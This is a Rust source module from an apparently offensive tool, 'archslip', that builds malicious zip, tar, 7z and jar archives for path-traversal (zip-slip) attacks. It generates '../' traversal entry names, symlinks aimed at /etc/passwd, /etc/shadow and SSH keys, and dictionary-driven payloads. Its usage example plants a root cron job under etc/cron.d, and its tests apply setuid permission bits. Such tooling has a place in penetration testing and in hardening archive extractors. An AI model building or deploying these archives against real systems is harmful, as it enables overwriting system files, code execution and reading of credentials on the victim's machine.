//! Payload plans: which entries go into which archive.
//!
//! A [`PayloadPlan`] gathers everything needed to build one payload
//! archive: the output name and container, regular paths with their
//! content, symlink specs, traversal search, mass-find dictionaries and an
//! optional clone source. [`PayloadPlan::execute`] validates the plan,
//! opens (or clones) the archive, writes the entries and closes it.
//!
//! ```rust,no_run
//! use archslip::{ArchiveType, PayloadPlan};
//!
//! let summary = PayloadPlan::new("evil", ArchiveType::Zip)
//!     .paths(archslip::plan::split_list("/tmp/owned, etc/cron.d/job"))
//!     .file_content("* * * * * root id > /tmp/pwned\n")
//!     .symlinks(vec!["/etc/passwd;passwd".to_string()])
//!     .search(3)
//!     .execute()?;
//! println!("wrote {} entries", summary.entries_written);
//! # Ok::<(), archslip::Error>(())
//! ```

use std::ffi::OsString;
use std::fmt;
use std::fs;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use rand::Rng;

use crate::payload::{DEFAULT_TRAVERSAL_TOKEN, generate};
use crate::write::{ArchiveWriter, OpenMode, WriteSummary, open};
use crate::format::detect::detect_format;
use crate::{
    ArchiveCloner, ArchiveType, CompressionCatalog, CompressionMethod, ContainerFormat,
    EntryDescriptor, Error, Result, Timestamp,
};

/// Dictionary file read when none is named.
pub const DEFAULT_DICTIONARY: &str = "path_traversal_dict.txt";

/// Placeholder replaced by the mass-find file name.
pub const DEFAULT_PLACEHOLDER: &str = "{FILE}";

/// Search depth used when search is requested without a depth.
pub const DEFAULT_SEARCH_DEPTH: usize = 5;

/// Splits a comma-separated input list, stripping leading spaces.
///
/// Items are otherwise kept verbatim, empty ones included.
pub fn split_list(list: &str) -> Vec<String> {
    list.split(',')
        .map(|item| item.trim_start_matches(' ').to_string())
        .collect()
}

/// Reads a mass-find dictionary, one payload per non-empty line.
///
/// # Errors
///
/// Returns [`Error::Io`] if the file cannot be read.
pub fn load_dictionary(path: impl AsRef<Path>) -> Result<Vec<String>> {
    let text = fs::read_to_string(path.as_ref())?;
    let lines: Vec<String> = text
        .lines()
        .filter(|line| !line.is_empty())
        .map(str::to_string)
        .collect();
    log::debug!(
        "loaded {} dictionary lines from {}",
        lines.len(),
        path.as_ref().display()
    );
    Ok(lines)
}

/// What mass-find dictionary lines become.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum MassFindMode {
    /// Regular entries named after each line.
    Paths,
    /// Symlinks pointing at each line.
    #[default]
    Symlinks,
}

impl MassFindMode {
    /// Returns the lowercase name.
    pub fn name(self) -> &'static str {
        match self {
            MassFindMode::Paths => "paths",
            MassFindMode::Symlinks => "symlinks",
        }
    }
}

impl fmt::Display for MassFindMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for MassFindMode {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        match s.to_ascii_lowercase().as_str() {
            "paths" => Ok(MassFindMode::Paths),
            "symlinks" => Ok(MassFindMode::Symlinks),
            other => Err(Error::Validation(format!("unknown mass-find mode '{other}'"))),
        }
    }
}

/// A symlink request: a target and an optional entry name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SymlinkSpec {
    /// Link target.
    pub target: String,
    /// Entry name; synthesised when absent.
    pub name: Option<String>,
}

impl SymlinkSpec {
    /// Parses `target;name` or a bare `target`.
    ///
    /// Only the first `;` separates; the name may contain more.
    pub fn parse(spec: &str) -> Self {
        match spec.split_once(';') {
            Some((target, name)) => Self {
                target: target.to_string(),
                name: Some(name.to_string()),
            },
            None => Self {
                target: spec.to_string(),
                name: None,
            },
        }
    }
}

/// Synthesises entry names for symlinks given without one.
///
/// The name keeps the ASCII alphanumerics of the target, truncated to
/// `stem_len` characters, then `suffix_len` random ASCII letters and the
/// extension.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SymlinkNamer {
    suffix_len: usize,
    stem_len: usize,
    extension: String,
}

impl Default for SymlinkNamer {
    fn default() -> Self {
        Self {
            suffix_len: 5,
            stem_len: 10,
            extension: ".symlink".to_string(),
        }
    }
}

impl SymlinkNamer {
    /// Creates a namer with the default suffix length, stem length and
    /// extension.
    pub fn new() -> Self {
        Self::default()
    }

    /// Sets the number of random letters; 0 disables the suffix.
    pub fn suffix_len(mut self, len: usize) -> Self {
        self.suffix_len = len;
        self
    }

    /// Sets how many target characters are kept.
    pub fn stem_len(mut self, len: usize) -> Self {
        self.stem_len = len;
        self
    }

    /// Sets the extension, including its leading dot.
    pub fn extension(mut self, extension: impl Into<String>) -> Self {
        self.extension = extension.into();
        self
    }

    /// Returns a fresh name for a link to `target`.
    pub fn name_for(&self, target: &str) -> String {
        self.name_with(target, &mut rand::thread_rng())
    }

    /// Returns a fresh name drawing the suffix from `rng`.
    pub fn name_with<R: Rng + ?Sized>(&self, target: &str, rng: &mut R) -> String {
        const LETTERS: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
        let mut name: String = target
            .chars()
            .filter(char::is_ascii_alphanumeric)
            .take(self.stem_len)
            .collect();
        name.extend((0..self.suffix_len).map(|_| LETTERS[rng.gen_range(0..LETTERS.len())] as char));
        name.push_str(&self.extension);
        name
    }
}

/// Everything needed to build one payload archive.
#[derive(Debug, Clone)]
pub struct PayloadPlan {
    archive_path: PathBuf,
    archive_type: ArchiveType,
    compression: Option<CompressionMethod>,
    paths: Vec<String>,
    file_content: Option<Vec<u8>>,
    symlinks: Vec<String>,
    search_depth: Option<usize>,
    traversal_token: String,
    mass_find: Option<String>,
    mass_find_mode: MassFindMode,
    dictionary: Vec<String>,
    placeholder: String,
    force_name: bool,
    clone_source: Option<PathBuf>,
    timestamp: Option<Timestamp>,
    mode: Option<u32>,
    namer: SymlinkNamer,
}

impl PayloadPlan {
    /// Starts a plan writing `archive_path` as `archive_type`.
    ///
    /// Unless [`force_name`](Self::force_name) is set, the conventional
    /// extension is appended to `archive_path`.
    pub fn new(archive_path: impl Into<PathBuf>, archive_type: ArchiveType) -> Self {
        Self {
            archive_path: archive_path.into(),
            archive_type,
            compression: None,
            paths: Vec::new(),
            file_content: None,
            symlinks: Vec::new(),
            search_depth: None,
            traversal_token: DEFAULT_TRAVERSAL_TOKEN.to_string(),
            mass_find: None,
            mass_find_mode: MassFindMode::default(),
            dictionary: Vec::new(),
            placeholder: DEFAULT_PLACEHOLDER.to_string(),
            force_name: false,
            clone_source: None,
            timestamp: None,
            mode: None,
            namer: SymlinkNamer::default(),
        }
    }

    /// Requests a compression method; unsupported ones fall back to the
    /// container default.
    pub fn compression(mut self, method: CompressionMethod) -> Self {
        self.compression = Some(method);
        self
    }

    /// Sets the regular entry names.
    pub fn paths(mut self, paths: Vec<String>) -> Self {
        self.paths = paths;
        self
    }

    /// Sets the content written to every regular entry.
    pub fn file_content(mut self, content: impl Into<Vec<u8>>) -> Self {
        self.file_content = Some(content.into());
        self
    }

    /// Sets the symlink specs (`target` or `target;name`).
    pub fn symlinks(mut self, symlinks: Vec<String>) -> Self {
        self.symlinks = symlinks;
        self
    }

    /// Expands every path and symlink target through `depth` traversal
    /// levels.
    pub fn search(mut self, depth: usize) -> Self {
        self.search_depth = Some(depth);
        self
    }

    /// Sets the traversal token used by search.
    pub fn traversal_token(mut self, token: impl Into<String>) -> Self {
        self.traversal_token = token.into();
        self
    }

    /// Turns every dictionary line into a payload aimed at `filename`.
    ///
    /// Mass-find replaces search expansion.
    pub fn mass_find(
        mut self,
        filename: impl Into<String>,
        mode: MassFindMode,
        dictionary: Vec<String>,
    ) -> Self {
        self.mass_find = Some(filename.into());
        self.mass_find_mode = mode;
        self.dictionary = dictionary;
        self
    }

    /// Sets the placeholder replaced in dictionary lines.
    pub fn placeholder(mut self, placeholder: impl Into<String>) -> Self {
        self.placeholder = placeholder.into();
        self
    }

    /// Uses the archive path exactly as given.
    pub fn force_name(mut self, force: bool) -> Self {
        self.force_name = force;
        self
    }

    /// Clones `source` and appends to the copy instead of creating a new
    /// archive.
    pub fn clone_from(mut self, source: impl Into<PathBuf>) -> Self {
        self.clone_source = Some(source.into());
        self
    }

    /// Stamps every entry with `timestamp`.
    pub fn timestamp(mut self, timestamp: Timestamp) -> Self {
        self.timestamp = Some(timestamp);
        self
    }

    /// Applies permission bits to every entry.
    pub fn mode(mut self, mode: u32) -> Self {
        self.mode = Some(mode);
        self
    }

    /// Replaces the symlink namer.
    pub fn symlink_namer(mut self, namer: SymlinkNamer) -> Self {
        self.namer = namer;
        self
    }

    /// Returns the compression new entries will use.
    pub fn effective_compression(&self) -> CompressionMethod {
        let format = self.archive_type.container();
        let requested = self
            .compression
            .unwrap_or_else(|| CompressionCatalog::default_method(format));
        CompressionCatalog::resolve(format, requested)
    }

    /// Returns the path the archive is written to.
    ///
    /// With a clone source the extension follows the container the source
    /// actually holds.
    pub fn output_path(&self) -> PathBuf {
        if self.force_name {
            return self.archive_path.clone();
        }
        let extension = self.clone_extension().unwrap_or_else(|| {
            CompressionCatalog::extension(self.archive_type, self.effective_compression())
        });
        let mut name = OsString::from(self.archive_path.as_os_str());
        name.push(extension);
        PathBuf::from(name)
    }

    fn clone_extension(&self) -> Option<&'static str> {
        let source = self.clone_source.as_ref()?;
        let format = match detect_format(source) {
            Ok(Some(format)) => format,
            _ => return None,
        };
        match format {
            // Tar clones are continued uncompressed.
            ContainerFormat::Tar => Some(".tar"),
            _ if format == self.archive_type.container() => None,
            ContainerFormat::Zip => Some(".zip"),
            ContainerFormat::SevenZip => Some(".7z"),
        }
    }

    /// Checks that the plan requests at least one entry and has content for
    /// its regular entries.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Validation`] describing the first problem found.
    pub fn validate(&self) -> Result<()> {
        if self.paths.is_empty() && self.symlinks.is_empty() && self.mass_find.is_none() {
            return Err(Error::Validation(
                "at least one of paths, symlinks or mass-find is required".into(),
            ));
        }
        if !self.paths.is_empty() && self.file_content.is_none() {
            return Err(Error::Validation("file content is required when using paths".into()));
        }
        if self.mass_find.is_some()
            && self.mass_find_mode == MassFindMode::Paths
            && self.file_content.is_none()
        {
            return Err(Error::Validation(
                "file content is required for mass-find in paths mode".into(),
            ));
        }
        Ok(())
    }

    /// Builds the entries in write order: symlinks first, then regular
    /// paths.
    ///
    /// Symlinks without a name get a synthesised one, so two calls produce
    /// different symlink names.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Validation`] if the plan is incomplete.
    pub fn entries(&self) -> Result<Vec<EntryDescriptor>> {
        self.validate()?;

        let mut symlinks = self.symlinks.clone();
        let mut paths = self.paths.clone();
        let search = match &self.mass_find {
            Some(filename) => {
                let payloads = self
                    .dictionary
                    .iter()
                    .filter(|line| !line.is_empty())
                    .map(|line| line.replace(&self.placeholder, filename));
                match self.mass_find_mode {
                    MassFindMode::Paths => paths.extend(payloads),
                    MassFindMode::Symlinks => symlinks.extend(payloads),
                }
                None
            }
            None => self.search_depth,
        };

        let mut entries = Vec::new();
        for spec in symlinks.iter().map(|s| SymlinkSpec::parse(s)) {
            match search {
                Some(depth) => {
                    for target in generate(&spec.target, depth, &self.traversal_token) {
                        let name = self.namer.name_for(&spec.target);
                        entries.push(EntryDescriptor::symlink(name, target));
                    }
                }
                None => {
                    let name = spec
                        .name
                        .clone()
                        .unwrap_or_else(|| self.namer.name_for(&spec.target));
                    entries.push(EntryDescriptor::symlink(name, spec.target));
                }
            }
        }

        let content = self.file_content.clone().unwrap_or_default();
        for path in &paths {
            match search {
                Some(depth) => {
                    for name in generate(path, depth, &self.traversal_token) {
                        entries.push(EntryDescriptor::regular(name, content.clone()));
                    }
                }
                None => entries.push(EntryDescriptor::regular(path.clone(), content.clone())),
            }
        }

        Ok(entries
            .into_iter()
            .map(|entry| {
                let entry = match self.timestamp {
                    Some(timestamp) => entry.with_timestamp(timestamp),
                    None => entry,
                };
                match self.mode {
                    Some(mode) => entry.with_mode(mode),
                    None => entry,
                }
            })
            .collect())
    }

    /// Validates the plan, writes the archive and returns its summary.
    ///
    /// The archive is removed again if writing any entry fails.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Validation`] before anything is created,
    /// [`Error::CloneSourceInvalid`] for a bad clone source and
    /// [`Error::Encoding`] or [`Error::Io`] for write failures.
    pub fn execute(&self) -> Result<WriteSummary> {
        let entries = self.entries()?;
        let path = self.output_path();

        let mut writer: Box<dyn ArchiveWriter> = match &self.clone_source {
            Some(source) => ArchiveCloner::clone_with(source, &path, self.compression)?,
            None => open(
                &path,
                self.archive_type,
                self.effective_compression(),
                OpenMode::Write,
            )?,
        };
        log::info!(
            "writing {} entries to {} ({}, {})",
            entries.len(),
            path.display(),
            writer.format(),
            writer.compression()
        );

        let written = entries.iter().try_for_each(|entry| writer.add(entry));
        let result = written.and_then(|()| writer.close());
        if result.is_err() {
            if let Err(err) = fs::remove_file(&path) {
                log::warn!("failed to remove partial archive {}: {err}", path.display());
            }
        }
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand::rngs::StdRng;
    use tempfile::TempDir;

    #[test]
    fn test_split_list_strips_leading_spaces_only() {
        assert_eq!(split_list("a, b ,  c,"), vec!["a", "b ", "c", ""]);
    }

    #[test]
    fn test_symlink_spec_parse() {
        assert_eq!(
            SymlinkSpec::parse("/etc/passwd;pw;x"),
            SymlinkSpec {
                target: "/etc/passwd".into(),
                name: Some("pw;x".into())
            }
        );
        assert_eq!(SymlinkSpec::parse("/root").name, None);
    }

    #[test]
    fn test_namer_shape() {
        let mut rng = StdRng::seed_from_u64(7);
        let name = SymlinkNamer::new().name_with("/etc/shadow-backup.txt", &mut rng);
        assert!(name.starts_with("etcshadowb"));
        assert!(name.ends_with(".symlink"));
        let suffix = &name["etcshadowb".len()..name.len() - ".symlink".len()];
        assert_eq!(suffix.len(), 5);
        assert!(suffix.chars().all(|c| c.is_ascii_alphabetic()));
    }

    #[test]
    fn test_namer_without_suffix() {
        let namer = SymlinkNamer::new().suffix_len(0).extension("");
        assert_eq!(namer.name_for("../../x y"), "xy");
    }

    #[test]
    fn test_validation() {
        let plan = PayloadPlan::new("a", ArchiveType::Zip);
        assert!(plan.validate().unwrap_err().is_validation());

        let plan = PayloadPlan::new("a", ArchiveType::Zip).paths(vec!["x".into()]);
        assert!(plan.validate().unwrap_err().is_validation());

        let plan = PayloadPlan::new("a", ArchiveType::Zip).mass_find(
            "passwd",
            MassFindMode::Paths,
            vec![],
        );
        assert!(plan.validate().unwrap_err().is_validation());

        let plan = PayloadPlan::new("a", ArchiveType::Zip).symlinks(vec!["/etc".into()]);
        assert!(plan.validate().is_ok());
    }

    #[test]
    fn test_output_path_extension() {
        let plan = PayloadPlan::new("out", ArchiveType::Tar).compression(CompressionMethod::Bzip2);
        assert_eq!(plan.output_path(), PathBuf::from("out.tar.bz2"));

        let plan = PayloadPlan::new("out", ArchiveType::Jar).compression(CompressionMethod::Lzma2);
        assert_eq!(plan.effective_compression(), CompressionMethod::Deflate);
        assert_eq!(plan.output_path(), PathBuf::from("out.jar"));

        let plan = PayloadPlan::new("exact.bin", ArchiveType::SevenZip).force_name(true);
        assert_eq!(plan.output_path(), PathBuf::from("exact.bin"));
    }

    #[test]
    fn test_entries_order_and_search() {
        let plan = PayloadPlan::new("a", ArchiveType::Tar)
            .paths(vec!["/tmp/x".into()])
            .file_content("data")
            .symlinks(vec!["/etc/passwd;pw".into()])
            .search(2);
        let entries = plan.entries().unwrap();
        assert_eq!(entries.len(), 6);
        assert!(entries[..3].iter().all(EntryDescriptor::is_symlink));
        assert_eq!(entries[2].content, b"../../etc/passwd");
        let names: Vec<&str> = entries[3..].iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["/tmp/x", "../tmp/x", "../../tmp/x"]);
    }

    #[test]
    fn test_named_symlink_without_search() {
        let plan = PayloadPlan::new("a", ArchiveType::Zip).symlinks(vec!["/etc/passwd;pw".into()]);
        let entries = plan.entries().unwrap();
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].name, "pw");
        assert_eq!(entries[0].content, b"/etc/passwd");
    }

    #[test]
    fn test_mass_find_replaces_search() {
        let plan = PayloadPlan::new("a", ArchiveType::Zip)
            .search(4)
            .file_content("c")
            .mass_find(
                "id_rsa",
                MassFindMode::Paths,
                vec!["../{FILE}".into(), String::new(), "/home/{FILE}".into()],
            );
        let entries = plan.entries().unwrap();
        let names: Vec<&str> = entries.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["../id_rsa", "/home/id_rsa"]);
    }

    #[test]
    fn test_timestamp_and_mode_applied() {
        let ts = Timestamp::from_unix_secs(0).unwrap();
        let plan = PayloadPlan::new("a", ArchiveType::Zip)
            .paths(vec!["x".into()])
            .file_content("c")
            .timestamp(ts)
            .mode(0o4755);
        let entries = plan.entries().unwrap();
        assert_eq!(entries[0].timestamp, Some(ts));
        assert_eq!(entries[0].mode, Some(0o4755));
    }

    #[test]
    fn test_load_dictionary_skips_blank_lines() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join(DEFAULT_DICTIONARY);
        fs::write(&path, "../{FILE}\r\n\n/{FILE}\n").unwrap();
        assert_eq!(load_dictionary(&path).unwrap(), vec!["../{FILE}", "/{FILE}"]);
    }

    #[test]
    fn test_execute_writes_archive() {
        let dir = TempDir::new().unwrap();
        let summary = PayloadPlan::new(dir.path().join("p"), ArchiveType::SevenZip)
            .paths(vec!["../evil".into()])
            .file_content("x")
            .symlinks(vec!["/etc/hosts;hosts".into()])
            .execute()
            .unwrap();
        assert_eq!(summary.members, vec!["hosts", "../evil"]);
        assert_eq!(summary.symlinks_written, 1);
        assert!(dir.path().join("p.7z").exists());
    }

    #[test]
    fn test_execute_validation_creates_nothing() {
        let dir = TempDir::new().unwrap();
        let result = PayloadPlan::new(dir.path().join("p"), ArchiveType::Zip)
            .paths(vec!["x".into()])
            .execute();
        assert!(result.unwrap_err().is_validation());
        assert!(!dir.path().join("p.zip").exists());
    }
}
